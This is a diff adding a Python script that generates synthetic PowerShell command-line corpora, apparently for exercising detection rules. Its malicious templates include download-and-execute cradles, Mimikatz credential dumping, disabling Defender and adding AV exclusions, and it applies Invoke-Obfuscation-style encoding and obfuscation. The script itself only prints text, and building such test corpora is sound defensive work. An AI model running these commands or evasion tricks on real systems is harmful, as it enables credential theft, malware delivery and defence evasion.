@@ -0,0 +1,187 @@
+import sys
+import base64
+import random
+import argparse
+
+# Share of each kind of command line in a corpus, unless overridden with --mix.
+DEFAULT_MIX = {"benign": 0.6, "encoded": 0.15, "obfuscated": 0.15, "long": 0.1}
+# Share of command lines carrying a malicious snippet, so that rules match and logs are generated.
+DEFAULT_MALICIOUS_RATIO = 0.1
+
+HOSTS = ("powershell.exe", "pwsh", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
+USERS = ("alice", "bob", "svc_backup", "administrator", "jdoe")
+SERVICES = ("wuauserv", "Spooler", "W32Time", "BITS", "WinRM", "Dnscache")
+HOSTNAMES = ("dc01", "fileserver", "sql-prod-02", "intranet.corp.local", "10.0.0.15")
+
+BENIGN_COMMANDS = (
+    "Get-Service -Name {service} | Select-Object Status, Name",
+    "Get-ChildItem -Path C:\\Users\\{user}\\Documents -Recurse -Filter *.docx",
+    "Test-NetConnection -ComputerName {hostname} -Port {port}",
+    "Get-EventLog -LogName System -Newest {count} | Where-Object {{ $_.EntryType -eq 'Error' }}",
+    "Import-Module ActiveDirectory; Get-ADUser -Identity {user} -Properties LastLogonDate",
+    "Restart-Service -Name {service} -Force",
+    "Get-Process | Sort-Object CPU -Descending | Select-Object -First {count}",
+    "Copy-Item -Path \\\\{hostname}\\share\\report_{number}.xlsx -Destination C:\\Temp",
+    "Get-WmiObject -Class Win32_LogicalDisk | Select-Object DeviceID, FreeSpace",
+    "Set-Location C:\\Projects\\app{number}; git pull; dotnet build -c Release",
+)
+
+MALICIOUS_COMMANDS = (
+    "IEX (New-Object Net.WebClient).DownloadString('http://{hostname}/payload{number}.ps1')",
+    "Invoke-Mimikatz -DumpCreds -ComputerName {hostname}",
+    "Set-MpPreference -DisableRealtimeMonitoring $true",
+    "Add-MpPreference -ExclusionPath C:\\Users\\{user}\\AppData\\Local\\Temp",
+    "Invoke-WebRequest -Uri http://{hostname}/a{number}.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
+    "[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://{hostname}/x.dll'))",
+    "Get-ADComputer -Filter * | Export-Csv C:\\Users\\Public\\computers{number}.csv",
+)
+
+
+def fill(template, rng):
+    """
+    Fills the placeholders of a command template with random but plausible values.
+    """
+    return template.format(
+        service=rng.choice(SERVICES),
+        user=rng.choice(USERS),
+        hostname=rng.choice(HOSTNAMES),
+        port=rng.choice((80, 443, 445, 3389, 5985)),
+        count=rng.randint(5, 100),
+        number=rng.randint(1, 99999),
+    )
+
+
+def pick_command(rng, malicious_ratio):
+    commands = MALICIOUS_COMMANDS if rng.random() < malicious_ratio else BENIGN_COMMANDS
+    return fill(rng.choice(commands), rng)
+
+
+def host_arguments(rng):
+    """
+    Returns the host and the switches commonly put in front of the payload.
+    """
+    arguments = [rng.choice(HOSTS)]
+    arguments += rng.sample(["-NoProfile", "-NonInteractive", "-NoLogo"], rng.randint(0, 2))
+    if rng.random() < 0.3:
+        arguments += ["-ExecutionPolicy", "Bypass"]
+    if rng.random() < 0.2:
+        arguments += ["-WindowStyle", "Hidden"]
+    return arguments
+
+
+def benign_cmdline(rng, malicious_ratio):
+    return host_arguments(rng) + ["-Command"] + pick_command(rng, malicious_ratio).split()
+
+
+def encoded_cmdline(rng, malicious_ratio):
+    script = "; ".join(pick_command(rng, malicious_ratio) for _ in range(rng.randint(1, 3)))
+    encoded = base64.b64encode(script.encode("utf-16le")).decode("ascii")
+    switch = rng.choice(("-EncodedCommand", "-enc", "-e", "-ec"))
+    return host_arguments(rng) + [switch, encoded]
+
+
+def obfuscate(command, rng):
+    """
+    Applies one of the usual Invoke-Obfuscation style tricks to a command.
+    """
+    technique = rng.randrange(4)
+    if technique == 0:
+        # Random casing.
+        return "".join(char.upper() if rng.random() < 0.5 else char.lower() for char in command)
+    if technique == 1:
+        # Backtick escapes inside words.
+        return "".join(char + "`" if char.isalpha() and rng.random() < 0.15 else char for char in command)
+    if technique == 2:
+        # String concatenation executed through Invoke-Expression.
+        pieces = []
+        start = 0
+        while start < len(command):
+            end = start + rng.randint(2, 6)
+            pieces.append(command[start:end])
+            start = end
+        concatenated = "+".join("'" + piece.replace("'", "''") + "'" for piece in pieces)
+        return f"& ('I'+'EX') ({concatenated})"
+    # Character codes.
+    codes = ",".join(str(ord(char)) for char in command)
+    return f"IEX ([string]::join('', ([char[]]({codes}))))"
+
+
+def obfuscated_cmdline(rng, malicious_ratio):
+    return host_arguments(rng) + ["-Command"] + obfuscate(pick_command(rng, malicious_ratio), rng).split()
+
+
+def long_cmdline(rng, malicious_ratio):
+    # Long inline scripts of 4 to 32 KB, as pasted by deployment tools.
+    target = rng.randint(4096, 32768)
+    statements = []
+    size = 0
+    while size < target:
+        statement = pick_command(rng, malicious_ratio / 10)
+        statements.append(statement)
+        size += len(statement) + 2
+    return host_arguments(rng) + ["-Command"] + "; ".join(statements).split()
+
+
+GENERATORS = {
+    "benign": benign_cmdline,
+    "encoded": encoded_cmdline,
+    "obfuscated": obfuscated_cmdline,
+    "long": long_cmdline,
+}
+
+
+def parse_mix(text):
+    """
+    Parses a corpus mix such as "benign=0.6,encoded=0.2,long=0.2".
+    Raises ValueError for an unknown kind or a malformed weight.
+    """
+    mix = {}
+    for item in text.split(","):
+        kind, _, weight = item.partition("=")
+        kind = kind.strip()
+        if kind not in GENERATORS:
+            raise ValueError(f"unknown command line kind {kind!r} (expected one of {', '.join(GENERATORS)})")
+        mix[kind] = float(weight)
+    return mix
+
+
+def generate_corpus(count, seed=1, mix=None, malicious_ratio=DEFAULT_MALICIOUS_RATIO):
+    """
+    Returns count synthetic PowerShell command lines as (kind, cmdline parts) tuples.
+    The same seed, mix and ratio always produce the same corpus.
+    """
+    mix = mix or DEFAULT_MIX
+    rng = random.Random(seed)
+    kinds = list(mix)
+    weights = [mix[kind] for kind in kinds]
+    corpus = []
+    for _ in range(count):
+        kind = rng.choices(kinds, weights)[0]
+        corpus.append((kind, GENERATORS[kind](rng, malicious_ratio)))
+    return corpus
+
+
+def main(argv=None):
+    parser = argparse.ArgumentParser(
+        description="Writes a synthetic PowerShell command line corpus, one command line per line."
+    )
+    parser.add_argument("--events", type=int, default=1000, help="number of command lines")
+    parser.add_argument("--seed", type=int, default=1)
+    parser.add_argument("--mix", type=parse_mix, default=DEFAULT_MIX,
+                        help="kinds and weights, e.g. benign=0.6,encoded=0.15,obfuscated=0.15,long=0.1")
+    parser.add_argument("--malicious-ratio", type=float, default=DEFAULT_MALICIOUS_RATIO)
+    parser.add_argument("--out", help="output file (default: standard output)")
+    args = parser.parse_args(argv)
+
+    lines = [" ".join(parts) for _, parts in
+             generate_corpus(args.events, args.seed, args.mix, args.malicious_ratio)]
+    if args.out:
+        with open(args.out, "w", encoding="utf-8") as f:
+            f.write("\n".join(lines) + "\n")
+    else:
+        sys.stdout.write("\n".join(lines) + "\n")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())